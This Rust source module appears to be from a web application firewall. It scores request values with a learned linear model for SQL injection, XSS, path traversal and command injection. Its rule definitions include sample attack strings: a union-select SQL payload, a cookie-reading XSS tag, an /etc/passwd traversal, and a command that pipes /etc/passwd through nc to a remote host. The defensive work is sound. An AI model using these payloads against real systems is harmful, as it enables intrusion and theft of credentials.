//! The learned tier: does a text read like known attacks?
//!
//! Signatures and recognisers know what attacks do. The model has learned what they look like. It
//! is a linear model over hashed grams of tokens, with one set of weights for each [`Family`],
//! compiled in as a table of small integers. It is asked only about texts that the gate did not
//! pass, adds points like any other evidence, and names the piece of text that weighed most.
//!
//! `cargo xtask train-payload` makes the table from labelled requests, with the same
//! [`grams`](self::Model::grams) as here; `aiwaf-core/src/payload/model/README.md` lists what it
//! was trained on.

mod tokens;
mod weights;

use std::ops::Range;

pub use self::tokens::{Grams, WINDOW, words};
pub use self::weights::{FAMILIES, Head, SCALE, SLOTS, Vocabulary, Weights};

use self::tokens::{Recent, Tokens};
use super::category::{Category, Severity};
use super::field::Carrier;
use super::rules::{Carriers, Rule};

/// The trained table.
static TABLE: &[u8] = include_bytes!("model/weights.bin");

/// Kinds of attacks that look alike.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Family {
    /// Queries of databases, directories and documents.
    Query,
    /// Markup and scripts for browsers.
    Markup,
    /// Paths, files and addresses.
    Path,
    /// Commands, code and templates for the server.
    Command,
}

impl Family {
    /// All families, in the order of the weights.
    pub const ALL: [Self; FAMILIES] = [Self::Query, Self::Markup, Self::Path, Self::Command];

    /// The rules for findings of this family, by how sure the model is.
    const fn rules(self) -> &'static [Rule; 3] {
        match self {
            Self::Query => &QUERY,
            Self::Markup => &MARKUP,
            Self::Path => &PATH,
            Self::Command => &COMMAND,
        }
    }
}

/// One rule at each severity.
macro_rules! rules {
    ($name:ident, $id:literal, $category:ident, $hits:expr, $misses:expr) => {
        static $name: [Rule; 3] = [
            rule($id, Category::$category, Severity::Medium, $hits, $misses),
            rule($id, Category::$category, Severity::High, $hits, $misses),
            rule($id, Category::$category, Severity::Critical, $hits, $misses),
        ];
    };
}

const fn rule(
    id: &'static str,
    category: Category,
    severity: Severity,
    hits: &'static [&'static str],
    misses: &'static [&'static str],
) -> Rule {
    Rule::recognised(id, category, severity, hits, misses).only(CARRIERS)
}

/// Where the model is asked: values that an application reads. Headers have a language of their
/// own.
const CARRIERS: Carriers = Carriers::VALUES.with(Carrier::Path);

rules!(
    QUERY,
    "learned-query",
    Sqli,
    &["' union select password from users where '1'='1"],
    &["union of select committees"]
);
rules!(
    MARKUP,
    "learned-markup",
    Xss,
    &["<img src=x onerror=alert(document.cookie)>"],
    &["<b>bold</b>"]
);
rules!(
    PATH,
    "learned-path",
    Lfi,
    &["../../../../../../etc/passwd"],
    &["/images/2024/05/photo.jpg"]
);
rules!(
    COMMAND,
    "learned-command",
    Rce,
    &["; cat /etc/passwd | nc 10.0.0.1 4444"],
    &["cats; dogs"]
);

/// The length from which a text is worth an opinion: shorter ones are three signs at most.
const SHORTEST: usize = 4;

/// Whether the model is asked about a squeezed text in a carrier.
pub(super) fn is_asked(carrier: Carrier, text: &[u8]) -> bool {
    text.len() >= SHORTEST && CARRIERS.contains(carrier)
}

/// The result of the model for one text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Opinion {
    /// The score of each family: that of its highest-scoring window, in steps of 1/[`SCALE`] of
    /// log-odds.
    pub scores: [i32; FAMILIES],
    /// Where the highest-scoring window of each family is.
    pub windows: [Range<usize>; FAMILIES],
}

/// A model that is ready for use.
#[derive(Debug)]
pub struct Model {
    weights: Weights,
}

impl Model {
    /// The compiled-in model.
    #[must_use]
    pub fn new() -> Option<Self> {
        Weights::from_bytes(TABLE).map(Self::from)
    }

    /// The model's opinion of a squeezed text: lower case, each run of white space a single space.
    ///
    /// Takes time linear in the length: each token is looked up once, and the windows slide.
    #[must_use]
    pub fn opinion(&self, text: &[u8]) -> Opinion {
        let mut window = Window::new(&self.weights.heads);
        let mut recent = Recent::new();
        for token in Tokens::new(text, &self.weights.vocabulary) {
            if let Some(grams) = recent.push(token) {
                window.push(self.weigh(&grams), token.start, text.len());
            }
        }
        window.worst
    }

    /// The grams of each token of a squeezed text, for training.
    pub fn grams<'a>(
        text: &'a [u8],
        vocabulary: &'a Vocabulary,
    ) -> impl Iterator<Item = Grams> + 'a {
        let mut recent = Recent::new();
        Tokens::new(text, vocabulary).filter_map(move |token| recent.push(token))
    }

    /// The strongest finding in `text`, with the part of the text that shows it.
    pub(super) fn judge<'t>(&self, text: &'t [u8]) -> Option<(&'static Rule, &'t [u8])> {
        let opinion = self.opinion(text);
        let levels = Family::ALL
            .iter()
            .zip(&self.weights.heads)
            .zip(opinion.scores.iter().zip(opinion.windows));
        levels
            .filter_map(|((family, head), (score, window))| {
                let level = head
                    .thresholds
                    .iter()
                    .rposition(|threshold| score >= threshold)?;
                let rule = family.rules().get(level)?;
                Some((rule, score, text.get(window)?))
            })
            .max_by_key(|(rule, score, _)| (rule.severity, **score))
            .map(|(rule, _, text)| (rule, text))
    }

    fn weigh(&self, grams: &Grams) -> [i32; FAMILIES] {
        let mut sum = [0; FAMILIES];
        for &gram in grams {
            if let Some(slot) = self.weights.table.get(gram) {
                for (sum, weight) in sum.iter_mut().zip(slot) {
                    *sum += i32::from(*weight);
                }
            }
        }
        sum
    }
}

impl From<Weights> for Model {
    fn from(weights: Weights) -> Self {
        Self { weights }
    }
}

/// All rules that the model can report.
pub(super) fn rules() -> impl Iterator<Item = &'static Rule> {
    Family::ALL
        .iter()
        .filter_map(|family| family.rules().last())
}

/// The last [`WINDOW`] tokens and their sum.
struct Window {
    sums: [i32; FAMILIES],
    tokens: [([i32; FAMILIES], usize); WINDOW],
    at: usize,
    worst: Opinion,
}

impl Window {
    fn new(heads: &[Head; FAMILIES]) -> Self {
        let biases = heads.map(|head| head.bias);
        Self {
            sums: biases,
            tokens: [([0; FAMILIES], 0); WINDOW],
            at: 0,
            worst: Opinion {
                scores: biases,
                windows: [const { 0..0 }; FAMILIES],
            },
        }
    }

    #[inline]
    fn push(&mut self, weight: [i32; FAMILIES], start: usize, len: usize) {
        let Some(oldest) = self.tokens.get_mut(self.at) else {
            return;
        };
        let (gone, _) = std::mem::replace(oldest, (weight, start));
        self.at = (self.at + 1) % WINDOW;
        // While the ring is not full, its next slot holds zeroes: the window begins with the text.
        let begin = self.tokens.get(self.at).map_or(0, |(_, start)| *start);
        let end = len.min(start + 24);
        for (family, sum) in self.sums.iter_mut().enumerate() {
            *sum += weight.get(family).unwrap_or(&0) - gone.get(family).unwrap_or(&0);
            if let (Some(score), Some(window)) = (
                self.worst.scores.get_mut(family),
                self.worst.windows.get_mut(family),
            ) && *sum > *score
            {
                *score = *sum;
                *window = begin..end;
            }
        }
    }
}

#[cfg(test)]
mod tests;
